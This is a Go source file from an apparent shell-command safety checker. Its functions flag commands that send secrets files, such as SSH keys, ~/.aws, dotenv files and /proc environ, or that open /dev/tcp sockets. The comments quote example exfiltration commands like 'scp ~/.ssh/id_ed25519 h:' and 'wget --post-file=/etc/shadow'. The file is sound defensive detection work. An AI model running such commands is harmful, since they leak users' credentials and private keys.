package patterns

import (
	"path"
	"strings"
)

// judgeSecret is [secret]: a word that certainly names a file of secrets
// for a program to send: a credentials path, a directory below the home
// that holds one (~/.aws, ~/.config), the home or a directory holding it
// (sent whole, it sends them all), or a dotenv file (.env, .env.prod;
// not .env.example), written alone (`scp ~/.ssh/id_ed25519 h:`,
// `wget --post-file=/etc/shadow`) or after curl's `@` (`-F f=@~/.ssh/id`,
// `-d @.env`), where a `~/` is read as the home although bash leaves it.
// Only what is certain counts: `curl -d @"$F"` is everyday and is left
// alone (a secret read earlier in the line and piped out is judged by its
// reader, not by this class).
func judgeSecret(_ string, w Word, ctx *Context) Judgement {
	if j := judgeSecretDirect(w, ctx); j.Certainly {
		return j
	}
	if v, ok := w.Literal(); ok && strings.Contains(v, "{") {
		// curl reads {a,b} in an upload's name as a list of files
		// (`curl -T "{.env,README.md}" URL` sends both); a literal name
		// with braces is so read for every sender, asking more at worst.
		for _, alt := range curlBraces(v, maxCurlBraces) {
			if j := judgeSecretDirect(LitWord(alt), ctx); j.Certainly {
				return j
			}
		}
	}
	if _, ok := w.Literal(); !ok {
		for _, alt := range curlBraceWords(w) { // class_secret_curlglob.go
			if j := judgeSecretDirect(alt, ctx); j.Certainly {
				return j
			}
		}
	}
	for _, f := range sentFiles(w) {
		if launderedSecret(f, ctx) {
			return Judgement{Might: true, Certainly: true}
		}
	}
	for _, f := range sentFiles(w) {
		if secretGlob(f, ctx) { // class_secret_globwalk.go: find ~/.aws -exec scp {} h: +
			return Judgement{Might: true, Certainly: true}
		}
	}
	if xargsItemSecret(w, ctx) { // class_secret_xargs.go: echo ~/.ssh/id_rsa | xargs -I% scp % h:
		return Judgement{Might: true, Certainly: true}
	}
	return judgeSecretVar(w, ctx)
}

// judgeSecretDirect is [secret] for the files a word itself names, not
// the copies the line made of one: each file after curl's @ or a form
// field's =<, and the value of a KEY=FILE (kubectl's --from-file).
func judgeSecretDirect(w Word, ctx *Context) Judgement {
	for _, f := range sentFiles(w) {
		if j := judgeSecretFile(f, ctx); j.Certainly {
			return j
		}
	}
	lead := leadingLiteral(&w)
	if k := strings.IndexByte(lead, '='); k > 0 && !strings.ContainsAny(lead[:k], "@/~$<") && !strings.Contains(lead, "@") {
		if j := judgeSecretFile(trimWordPrefix(w, lead[:k+1], false), ctx); j.Certainly {
			return j
		}
	}
	return Judgement{}
}

// judgeSecretFile is [secret] for one file a word names.
func judgeSecretFile(w Word, ctx *Context) Judgement {
	if j := judgeCredentials("", w, ctx); j.Certainly {
		return j
	}
	p := resolvePath(&w, ctx)
	v, ok := p.shape.certain()
	if !ok || p.any {
		return Judgement{}
	}
	if isDotenv(path.Base(v)) || holdsHomeCredential(v, ctx.Home) || holdsTableSecret(v, strings.TrimSuffix(ctx.Home, "/")) || holdsHome(v, ctx.Home) || procEnviron(v) || secretByName(v, ctx.Home) {
		return Judgement{Might: true, Certainly: true}
	}
	return Judgement{}
}

// procEnviron reports whether a path is a process's environment under
// /proc (/proc/self/environ, /proc/1/environ, /proc/self/task/N/environ):
// every variable the process was given, tokens among them.
func procEnviron(v string) bool {
	return strings.HasPrefix(v, "/proc/") && path.Base(v) == "environ"
}

// isDotenv reports whether a base name is a dotenv file of secrets: .env
// and .env.NAME, but not the templates checked in beside them.
func isDotenv(base string) bool {
	if base == ".env" {
		return true
	}
	name, ok := strings.CutPrefix(base, ".env.")
	if !ok {
		return false
	}
	switch name {
	case "example", "sample", "template", "dist", "defaults", "schema":
		return false
	}
	return name != ""
}

// holdsHomeCredential reports whether the absolute path p is a directory
// strictly below the home that holds one of its credentials paths
// (~/.aws holds ~/.aws/credentials). The home itself is holdsHome's.
func holdsHomeCredential(p, home string) bool {
	home = strings.TrimSuffix(home, "/")
	if home == "" || !within(p, home) || p == home {
		return false
	}
	rel := p[len(home)+1:] // home/c lies within p when c lies within rel
	for _, c := range homeCredentials {
		if within(c, rel) {
			return true
		}
	}
	return false
}

// holdsHome reports whether the absolute path p is the home or a
// directory holding it (/home, /): sent whole, it sends ~/.ssh, ~/.aws
// and every other credential with it (b7a: `aws s3 sync ~ s3://b`,
// `scp -r ~ h:`, `docker build ~`). A backup of the home kept on this
// machine (`tar czf /tmp/h.tgz ~`) sends nothing and is left alone; only
// what a sender sends reads this class.
func holdsHome(p, home string) bool {
	home = strings.TrimSuffix(home, "/")
	return home != "" && within(home, p)
}

// judgeSocket is [socket]: a path bash opens as a network connection
// (/dev/tcp/HOST/PORT, /dev/udp/HOST/PORT). Only a path certainly there
// counts: a write to "$LOG" is no connection.
func judgeSocket(_ string, w Word, ctx *Context) Judgement {
	p := resolvePath(&w, ctx)
	v, ok := p.shape.certain()
	if !ok || p.any {
		return Judgement{}
	}
	if strings.HasPrefix(v, "/dev/tcp/") || strings.HasPrefix(v, "/dev/udp/") {
		return Judgement{Might: true, Certainly: true}
	}
	return Judgement{}
}

// maxCurlBraces bounds the names curlBraces makes of one word.
const maxCurlBraces = 64

// curlBraces expands curl's globbing lists ({a,b,c}, not nested) in v
// into at most limit names; v alone when it holds none.
func curlBraces(v string, limit int) []string {
	open := strings.IndexByte(v, '{')
	end := -1
	if open >= 0 {
		end = strings.IndexByte(v[open:], '}')
	}
	if end < 0 {
		return []string{v}
	}
	end += open
	var out []string
	rests := curlBraces(v[end+1:], limit) // once: each group is read once
	for _, alt := range strings.Split(v[open+1:end], ",") {
		for _, rest := range rests {
			if len(out) >= limit {
				return out
			}
			out = append(out, v[:open]+alt+rest)
		}
	}
	return out
}
